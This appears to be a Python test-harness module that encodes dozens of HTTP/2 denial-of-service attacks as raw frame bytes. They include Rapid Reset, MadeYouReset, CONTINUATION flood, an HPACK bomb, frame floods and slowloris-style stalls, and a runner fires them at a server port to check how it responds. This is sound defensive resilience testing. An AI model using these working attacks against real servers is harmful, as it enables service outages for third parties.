"""Attacks on an HTTP/2 server, each as the bytes that its client sends: tests run them briefly, loadtest/ for long.

    outcome = run(ATTACKS["rapid reset"], lb.port, seconds=1.0)
    assert outcome.codes == {CALM: outcome.connections}

An attack is a generator of bursts; b"" is a pause. When the server closes the connection, the attack begins anew on a
fresh one, until its time is over.
"""

import select
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import count, repeat
from time import monotonic

from support import raw_http2 as raw
from support.raw_http2 import (
    CALM,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PRIORITY,
    block,
    data,
    frame,
    get,
    headers,
    post,
    rst_stream,
    settings,
    window_update,
)

Bursts = Iterator[bytes]
LARGEST_WINDOW = 2**31 - 1
PAUSE_S = 0.05
LARGE = b"/bytes?n=1000000"
SLOW = b"/slow?s=5"
AT_ONCE = 100  # frames, or streams, in a burst


def _ids() -> Iterator[int]:
    return count(1, 2)


def _bursts(make: Callable[[int], bytes], before: bytes = b"") -> Bursts:
    """For ever: bursts of what `make` says of the next stream ids."""
    ids = _ids()
    yield before
    while True:
        yield b"".join(make(next(ids)) for _ in range(AT_ONCE))


def _repeated(piece: bytes, before: bytes = b"") -> Bursts:
    yield before
    yield from repeat(piece * AT_ONCE)


def _held(burst: bytes) -> Bursts:
    """Nothing more is said."""
    yield burst
    yield from repeat(b"")


def _trickled(burst: bytes, piece: bytes) -> Bursts:
    yield burst
    while True:
        yield b""
        yield piece


# Streams that the client resets, or makes the server reset


def rapid_reset() -> Bursts:
    """CVE-2023-44487."""
    return _bursts(lambda stream: headers(stream, get(SLOW)) + rst_stream(stream))


def _made_you_reset(provoke: Callable[[int], bytes]) -> Bursts:
    """CVE-2025-8671: the server resets each stream because of a frame that breaks a rule."""
    return _bursts(lambda stream: headers(stream, get(SLOW), end=False) + provoke(stream))


def reset_by_window_of_zero() -> Bursts:
    return _made_you_reset(lambda stream: window_update(stream, 0))


def reset_by_window_overflow() -> Bursts:
    return _made_you_reset(lambda stream: window_update(stream, LARGEST_WINDOW))


def reset_by_dependence() -> Bursts:
    return _made_you_reset(lambda stream: frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10"))


def reset_by_short_priority() -> Bursts:
    return _made_you_reset(lambda stream: frame(PRIORITY, 0, stream, b"\0\0\0\0"))


def reset_by_late_data() -> Bursts:
    return _bursts(lambda stream: headers(stream, get(SLOW)) + data(stream, b"late"))


def reset_by_length() -> Bursts:
    return _bursts(
        lambda stream: headers(stream, post(SLOW, (b"content-length", b"1")), end=False) + data(stream, b"more")
    )


def reset_by_trailers() -> Bursts:
    return _made_you_reset(lambda stream: headers(stream, [(b"x", b"y")], end=False))


def malformed_heads() -> Bursts:
    return _bursts(lambda stream: headers(stream, get(b"/", (b"Upper", b"case"))))


def empty_heads() -> Bursts:
    return _bursts(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream))


def too_many_streams() -> Bursts:
    return _bursts(lambda stream: headers(stream, get(SLOW)))


# Header blocks


def continuation_flood() -> Bursts:
    """CVE-2024-27316: a block that does not end."""
    piece = frame(CONTINUATION, 0, 1, raw.literal(b"x", b"y" * 60))
    return _repeated(piece, frame(HEADERS, END_STREAM, 1, block(get())))


def empty_continuations() -> Bursts:
    return _repeated(frame(CONTINUATION, 0, 1), frame(HEADERS, END_STREAM, 1, block(get())))


def giant_heads() -> Bursts:
    """A block of 1 MB, in frames of 16 KB."""
    piece = frame(CONTINUATION, 0, 1, raw.literal(b"x", b"y" * 16_000))
    return _repeated(piece, frame(HEADERS, END_STREAM, 1, block(get())))


def hpack_bomb() -> Bursts:
    """One field of 4,000 bytes in the dynamic table, and blocks that name it 15,000 times in a byte each."""
    bomb = raw.indexed_literal(b"x", b"y" * 4_000)
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, block(get()) + bomb)
    for stream in count(1, 2):
        yield (
            first if stream == 1 else frame(HEADERS, END_HEADERS | END_STREAM, stream, block(get()) + b"\xbe" * 15_000)
        )


def table_churn() -> Bursts:
    """Each block makes the table small and large again, and fills it with entries that drive each other out."""
    fill = b"\x20\x3f\xe1\x1f" + block(get()) + raw.indexed_literal(b"", b"") * 4_000
    return _bursts(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, fill))


# Frames that cost and ask for nothing


def settings_flood() -> Bursts:
    return _repeated(settings())


def settings_of_windows() -> Bursts:
    """SETTINGS that change the windows of 90 open streams, back and forth."""
    opened = b"".join(headers(stream, get(SLOW)) for stream in range(1, 181, 2))
    return _repeated(settings(window=1) + settings(window=65535), opened)


def ping_flood() -> Bursts:
    return _repeated(raw.ping())


def priority_flood() -> Bursts:
    return _bursts(lambda stream: raw.priority(stream))


def empty_data() -> Bursts:
    return _repeated(data(1, b""), headers(1, post(), end=False))


def padding_alone() -> Bursts:
    """DATA that is padding, but for one byte, as fast as the window opens."""
    piece = frame(DATA, raw.PADDED, 1, b"\xff" + b"x" + bytes(255))
    return _trickled(headers(1, post(b"/sum"), end=False), piece * AT_ONCE)


def unknown_frames() -> Bursts:
    return _repeated(frame(0xBE, 0, 0, b"?"))


def late_resets() -> Bursts:
    """RST_STREAM, and windows, of a stream that is gone."""
    return _repeated(rst_stream(1) + window_update(1, 1), headers(1, get()) + rst_stream(1))


def tiny_windows() -> Bursts:
    """The client asks for large answers, and takes them byte by byte."""
    opened = settings(window=0) + b"".join(headers(stream, get(LARGE)) for stream in range(1, 41, 2))
    return _repeated(b"".join(window_update(stream, 1) for stream in range(1, 41, 2)), opened)


def windows_for_nothing() -> Bursts:
    return _repeated(window_update(0, 1))


# Rules of the connection that are broken


def window_overflow() -> Bursts:
    return _repeated(window_update(0, LARGEST_WINDOW))


def settings_overflow() -> Bursts:
    return _held(headers(1, get(SLOW)) + window_update(1, LARGEST_WINDOW - 65535) + settings(window=LARGEST_WINDOW))


def ids_that_go_back() -> Bursts:
    return _held(headers(5, get()) + headers(3, get()))


# Work that is begun and never ended


def half_a_frame() -> Bursts:
    return _trickled(headers(1, post(), end=False) + frame(DATA, 0, 1, bytes(16_000))[:10], b"\0")


def half_a_head() -> Bursts:
    return _trickled(headers(1, get())[:12], b"")


def unfinished_heads() -> Bursts:
    return _trickled(frame(HEADERS, END_STREAM, 1, block(get())[:4]), b"")


def unfinished_streams() -> Bursts:
    """Slowloris by stream: requests whose body never comes."""
    return _held(b"".join(headers(stream, post(b"/sum"), end=False) for stream in range(1, 201, 2)))


def trickling_bodies() -> Bursts:
    ids = range(1, 201, 2)
    opened = b"".join(headers(stream, post(b"/sum"), end=False) for stream in ids)
    return _trickled(opened, b"".join(data(stream, b"x") for stream in ids))


def zero_windows() -> Bursts:
    """Large answers are asked for, and none is taken."""
    return _held(settings(window=0) + b"".join(headers(stream, get(LARGE)) for stream in range(1, 201, 2)))


def no_reader() -> Bursts:
    """The windows are as large as can be, and the client reads nothing."""
    wide = settings(window=LARGEST_WINDOW) + window_update(0, LARGEST_WINDOW - 65535)
    return _held(wide + b"".join(headers(stream, get(LARGE)) for stream in range(1, 201, 2)))


def pings_without_reader() -> Bursts:
    """The acknowledgements are never read; the pings are few enough per second."""
    return _trickled(b"", raw.ping() * 4)


def heads_that_fail() -> Bursts:
    """Requests in a row that cost no backend: the worker answers them itself."""
    return _bursts(lambda stream: headers(stream, get(b"/", (b"expect", b"nonsense"))))


@dataclass(frozen=True, slots=True)
class Attack:
    """`codes`: of the GOAWAY that may end a connection; empty: it may live as long as limits of time allow."""

    bursts: Callable[[], Bursts]
    codes: frozenset[int] = frozenset((CALM,))
    reads: bool = True


PROTOCOL, FLOW = frozenset((1,)), frozenset((3,))
NONE: frozenset[int] = frozenset()

ATTACKS = {
    "rapid reset": Attack(rapid_reset),
    "made you reset: a window update of 0": Attack(reset_by_window_of_zero),
    "made you reset: a window too large": Attack(reset_by_window_overflow),
    "made you reset: a stream that depends on itself": Attack(reset_by_dependence, frozenset((1, CALM))),
    "made you reset: a short PRIORITY": Attack(reset_by_short_priority, frozenset((6, CALM))),
    "made you reset: data behind the end": Attack(reset_by_late_data),
    "made you reset: content-length": Attack(reset_by_length),
    "made you reset: trailers without an end": Attack(reset_by_trailers),
    "malformed heads": Attack(malformed_heads),
    "empty heads": Attack(empty_heads),
    "too many streams": Attack(too_many_streams),
    "CONTINUATION flood": Attack(continuation_flood),
    "empty CONTINUATION": Attack(empty_continuations),
    "giant heads": Attack(giant_heads),
    "HPACK bomb": Attack(hpack_bomb),
    "table churn": Attack(table_churn, NONE),
    "SETTINGS flood": Attack(settings_flood),
    "SETTINGS that change windows": Attack(settings_of_windows),
    "PING flood": Attack(ping_flood),
    "PRIORITY flood": Attack(priority_flood),
    "empty DATA": Attack(empty_data),
    "padding": Attack(padding_alone, NONE),
    "unknown frames": Attack(unknown_frames),
    "late resets": Attack(late_resets),
    "windows of 1 byte": Attack(tiny_windows),
    "window updates for nothing": Attack(windows_for_nothing),
    "window overflow": Attack(window_overflow, FLOW),
    "window overflow by SETTINGS": Attack(settings_overflow, FLOW),
    "ids that go back": Attack(ids_that_go_back, PROTOCOL),
    "half a frame": Attack(half_a_frame, NONE),
    "half a head": Attack(half_a_head, NONE),
    "unfinished heads": Attack(unfinished_heads, NONE),
    "unfinished streams": Attack(unfinished_streams, NONE),
    "bodies that trickle": Attack(trickling_bodies, NONE),
    "zero windows": Attack(zero_windows, NONE),
    "no reader": Attack(no_reader, NONE, reads=False),
    "pings without a reader": Attack(pings_without_reader, NONE, reads=False),
    "heads that are refused": Attack(heads_that_fail, NONE),
}


@dataclass(slots=True)
class Outcome:
    """What an attack met. `codes`: of GOAWAY; None: a connection closed without one."""

    connections: int = 0
    ended: int = 0  # by the server
    sent_bytes: int = 0
    received_bytes: int = 0
    codes: Counter[int | None] = field(default_factory=Counter)


def run(attack: Attack, port: int, seconds: float, *, tls: bool = False, connections: int = 0) -> Outcome:
    """`connections`: so many, and no longer than until the last one is ended; 0: a fresh one for each that ends."""
    outcome = Outcome()
    until = monotonic() + seconds
    while monotonic() < until and not (connections and outcome.connections == connections):
        outcome.connections += 1
        with raw.raw_http2(port, tls=tls, receive_bytes=0 if attack.reads else 4096) as client:
            _attack(attack, client, until, outcome)
    return outcome


def _attack(attack: Attack, client: raw.RawHttp2, until: float, outcome: Outcome) -> None:
    client.wait_ping()  # so that no ACK comes between the frames of the attack
    sock, bursts = client.sock, attack.bursts()
    waiting = memoryview(next(bursts))
    pause_until = 0.0
    while (now := monotonic()) < until:
        if not waiting and now >= pause_until:
            waiting = memoryview(next(bursts))
            if not waiting:
                pause_until = now + PAUSE_S
        readable = [sock] if attack.reads else []
        ready = select.select(readable, [sock] if waiting else [], [], min(PAUSE_S, until - now))
        if ready[0] and not _read(client, outcome):
            break
        if ready[1]:
            sock.settimeout(0)
            try:
                sent = sock.send(waiting[:65536])
            except BlockingIOError:
                continue
            except ConnectionError:
                while _read(client, outcome):
                    pass
                break
            waiting = waiting[sent:]
            outcome.sent_bytes += sent
    else:
        return
    outcome.ended += 1
    outcome.codes[client.goaway] += 1


def _read(client: raw.RawHttp2, outcome: Outcome) -> bool:
    """False at the end."""
    client.sock.settimeout(raw.PATIENCE_S)
    before = len(client.frames)
    try:
        alive = client.step()
    except TimeoutError:
        return False
    outcome.received_bytes += sum(9 + len(one.payload) for one in client.frames[before:])
    client.frames.clear()
    return alive and client.goaway is None
